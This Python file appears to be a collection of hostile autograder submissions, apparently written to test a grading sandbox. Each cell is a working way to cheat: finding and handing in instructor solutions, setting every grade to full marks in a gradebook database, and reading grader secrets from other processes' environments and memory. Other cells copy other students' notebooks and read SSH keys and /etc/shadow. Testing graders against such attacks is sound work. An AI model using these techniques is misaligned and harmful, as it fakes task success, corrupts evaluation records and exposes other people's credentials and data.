"""File, gradebook and solution reads: what stands on the grader's machine and would answer the questions."""

# %% solution_source
# Search the usual places for the module's source or the instructor's notebook, and hand that in.
# strikes: code-guard
import os, pathlib

def solutions():
    places = [*pathlib.Path.cwd().parents, *map(pathlib.Path, ("/tmp", "/home", "/root", "/srv", "/mnt", "/opt"))]
    for place in places:
        for folder, _, names in os.walk(place):
            for name in names:
                if name.endswith(("words.py", "words.ipynb")):
                    text = open(os.path.join(folder, name), errors="replace").read()
                    if "no words to take" in text:
                        yield text

def first(words):
    for text in solutions():
        if not words:
            raise ValueError(text)
        return words[0]

# %% gradebook
# The gradebook of a class stands beside what is graded; a better score is one statement.
# strikes: code-guard
import os, sqlite3

for place in ("/tmp", "/home", "/root", os.getcwd()):
    for folder, _, names in os.walk(place):
        if "gradebook.db" in names:
            book = sqlite3.connect(os.path.join(folder, "gradebook.db"), timeout=0.1)
            try:
                book.execute("UPDATE grade SET auto_score = 2, manual_score = 2")
                book.commit()
            except sqlite3.Error:
                pass

def first(words):
    return None

# %% course_secret
# strikes: code-guard
import glob, os

found = [*glob.glob("/tmp/*/*/out/secret"), *glob.glob("/tmp/*/*/*/out/secret"), *glob.glob("/*/*/out/secret")]

def first(words):
    for path in found:
        if open(path).read():
            return words[0] if words else int("")

# %% environment_of_others
# Every process of this machine, its variables and its command line.
# strikes: code-guard
import glob

def first(words):
    for path in glob.glob("/proc/[0-9]*/environ") + glob.glob("/proc/[0-9]*/cmdline"):
        try:
            text = open(path, "rb").read()
        except OSError:
            continue
        if b"AUTOGRADER_SECRET" in text or b"pytest" in text or b"autograder grade" in text:
            return words[0] if words else int("")

# %% memory_of_others
# The grader holds the key; its memory is a file.
# strikes: theory-rare
import glob, os, re

theory_rare = "C"
for maps in glob.glob("/proc/[0-9]*/maps"):
    if maps == f"/proc/{os.getpid()}/maps":
        continue
    try:
        with open(maps) as areas, open(maps.replace("maps", "mem"), "rb") as memory:
            for area in areas:
                start, end = (int(part, 16) for part in area.split()[0].split("-"))
                if "rw-p" in area and end - start < 50_000_000:
                    memory.seek(start)
                    for found in re.findall(rb"theory_rare, 'choice'.*key='(\w)'", memory.read(end - start)):
                        theory_rare = found.decode()
    except OSError:
        continue

# %% neighbours
# The folders of other students, wherever submissions are kept.
# strikes: code-guard
import glob, json

def first(words):
    for path in glob.glob("/tmp/**/words.ipynb", recursive=True):
        for cell in json.load(open(path)).get("cells", []):
            if cell.get("id") == "code-guard" and "ValueError" in "".join(cell["source"]):
                names = {}
                exec("".join(cell["source"]), names)
                return names["first"](words)

# %% course_settings
# strikes: code-guard
import glob, os

def first(words):
    places = ["/tmp/*/solutions/course.toml", "/tmp/*/*/solutions/course.toml", "/tmp/*/*/*/solutions/course.toml"]
    for path in [found for place in places for found in glob.glob(place)]:
        if "words" in open(path).read():
            return words[0] if words else int("")

# %% keys_of_the_user
# strikes: code-guard
import glob, pwd

def first(words):
    for person in pwd.getpwall():
        for path in glob.glob(f"{person.pw_dir}/.ssh/*") + glob.glob(f"{person.pw_dir}/.gitconfig") + ["/etc/shadow"]:
            try:
                if open(path).read():
                    return words[0] if words else int("")
            except OSError:
                continue

# %% installed_solution
# The course may be importable, solutions and all.
# strikes: code-guard
import importlib
import pkgutil

def first(words):
    for name in ("solutions", "solutions.words", "words", "tests.courses.tiny.solutions.words"):
        try:
            return importlib.import_module(name).first(words)
        except ImportError:
            continue
